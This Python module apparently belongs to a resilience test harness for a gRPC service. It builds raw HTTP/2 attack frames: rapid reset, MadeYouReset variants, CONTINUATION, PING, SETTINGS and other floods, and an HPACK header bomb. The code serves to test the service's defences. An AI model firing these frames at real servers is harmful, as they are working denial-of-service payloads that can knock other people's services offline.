"""What a unit that has gone bad sends on a connection of its own, frame by frame, built by hyperframe and hpack: each as the bytes
before, and the bytes of round i. Stream ids are odd and grow."""
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, ExtensionFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PUBLISH = "/fedgate.v1.ExchangeService/Publish"
STREAMS = (1 << 31) // 2


def request(path=PUBLISH, **fields):
    """Fields without indexing: nothing depends on what was sent before."""
    fields = {":method": "POST", ":scheme": "https", ":path": path, ":authority": "x", "content-type": "application/grpc", "te": "trailers", **fields}
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in fields.items()])


REQUEST, NO_METHOD, NO_GRPC = request(), request("/nobody.v1.Service/Method"), request(**{"content-type": "text/html"})


def frames(*of):
    return b"".join(f.serialize() for f in of)


def headers(stream, block=REQUEST, *flags):
    return HeadersFrame(stream, block, flags=["END_HEADERS", *flags])


def stream_of(i):
    return 2 * i + 1


def rapid_reset(i):
    return frames(headers(stream_of(i)), RstStreamFrame(stream_of(i), 8))


def made_you_reset_by_no_window(i):
    """CVE-2025-8671: the peer lets the server reset, by an increment of zero,"""
    return frames(headers(stream_of(i)), WindowUpdateFrame(stream_of(i), 1)).replace(b"\0\0\4\x08\0" + stream_of(i).to_bytes(4, "big") + b"\0\0\0\1",
                                                                                    b"\0\0\4\x08\0" + stream_of(i).to_bytes(4, "big") + b"\0\0\0\0")


def made_you_reset_by_too_much_window(i):
    """by a window that is too large,"""
    return frames(headers(stream_of(i)), WindowUpdateFrame(stream_of(i), (1 << 31) - 1))


def made_you_reset_by_fields_after_the_end(i):
    """by fields after the end,"""
    return frames(headers(stream_of(i), REQUEST, "END_STREAM"), headers(stream_of(i), REQUEST, "END_STREAM"))


def made_you_reset_by_data_after_the_end(i):
    """by data after the end."""
    return frames(headers(stream_of(i), REQUEST, "END_STREAM"), DataFrame(stream_of(i), b"x"))


def settings_flood(i):
    return frames(SettingsFrame(0, {4: 1 + i % 65535}))


def ping_flood(i):
    return frames(PingFrame(0, i.to_bytes(8, "big")))


def window_flood(i):
    return frames(WindowUpdateFrame(0, 1))


def priority_flood(i):
    return frames(PriorityFrame(stream_of(i), depends_on=0, stream_weight=i % 256))


def continuation_flood(i):
    return frames(ContinuationFrame(1, request(**{"a%d" % i: "x" * 1000})))


def header_bomb(i):
    """One field of the table, named again by each byte: a frame unpacked to 47 MB."""
    first = b"\x40\x01a\x7f" + bytes([(3900 - 127) & 127 | 128, (3900 - 127) >> 7]) + b"z" * 3900 if i == 0 else b""
    return frames(headers(stream_of(i), first + b"\xbe" * 12000, "END_STREAM"))


def empty_data_flood(i):
    return frames(DataFrame(1, b""))


def padding_that_pays_for_pings(i):
    """Data that is padding only, with as many PINGs as such a frame might pay for."""
    return frames(DataFrame(1, b"", flags=["PADDED"], pad_length=0), *[PingFrame(0, b"12345678")] * 4)


def unknown_frames(i):
    return frames(ExtensionFrame(type=0xfa, stream_id=0, flag_byte=0, body=b""))


def calls_that_are_refused(i):
    """Of a method that nobody has, each answered and done."""
    return frames(headers(stream_of(i), NO_METHOD, "END_STREAM"))


def calls_that_are_no_grpc(i):
    return frames(headers(stream_of(i), NO_GRPC, "END_STREAM"))


OPEN = frames(headers(1))
OPEN_IN_PART = frames(HeadersFrame(1, REQUEST))
# Attack -> what goes before it.
ATTACKS = {rapid_reset: b"", made_you_reset_by_no_window: b"", made_you_reset_by_too_much_window: b"",
           made_you_reset_by_fields_after_the_end: b"", made_you_reset_by_data_after_the_end: b"", settings_flood: b"", ping_flood: b"",
           window_flood: b"", priority_flood: b"", continuation_flood: OPEN_IN_PART, header_bomb: b"", empty_data_flood: OPEN,
           padding_that_pays_for_pings: OPEN, unknown_frames: b"", calls_that_are_refused: b"", calls_that_are_no_grpc: b""}
